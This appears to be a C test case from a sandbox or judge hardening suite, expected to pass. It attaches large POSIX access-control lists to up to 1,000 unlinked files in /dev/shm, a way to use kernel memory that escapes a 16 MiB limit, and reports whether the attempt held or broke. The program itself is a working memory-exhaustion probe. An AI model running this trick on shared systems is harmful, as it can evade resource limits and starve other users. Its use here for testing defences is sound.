// verdict: AC
// why: empty files cannot be given long access lists, because those take kernel memory that no limit counts
// limits: memory=16MiB
#include <fcntl.h>
#include <stdio.h>
#include <sys/xattr.h>
#include <unistd.h>

static struct {
	unsigned version;
	struct { unsigned short tag, perm; unsigned id; } entry[8000];
} list;

int main(void) {
	list.version = 2;
	int n = 0, made = 0;
	list.entry[n].tag = 1, list.entry[n].perm = 7, list.entry[n++].id = -1;
	while (n < 7990) list.entry[n].tag = 2, list.entry[n].perm = 7, list.entry[n++].id = getuid();
	list.entry[n].tag = 4, list.entry[n].perm = 7, list.entry[n++].id = -1;
	list.entry[n].tag = 16, list.entry[n].perm = 7, list.entry[n++].id = -1;
	list.entry[n].tag = 32, list.entry[n].perm = 7, list.entry[n++].id = -1;
	for (int i = 0; i < 1000; i++) {
		char name[64];
		snprintf(name, sizeof name, "/dev/shm/guilty-%d-%d", getpid(), i);
		int fd = open(name, O_CREAT | O_RDWR, 0600);
		unlink(name); // the list exists as long as the file is open
		if (fsetxattr(fd, "system.posix_acl_access", &list, 4 + n * 8, 0) == 0) made++;
	}
	if (made == 0) return puts("held"), 0;
	printf("broke: %d lists of 64 KiB\n", made);
	return 0;
}
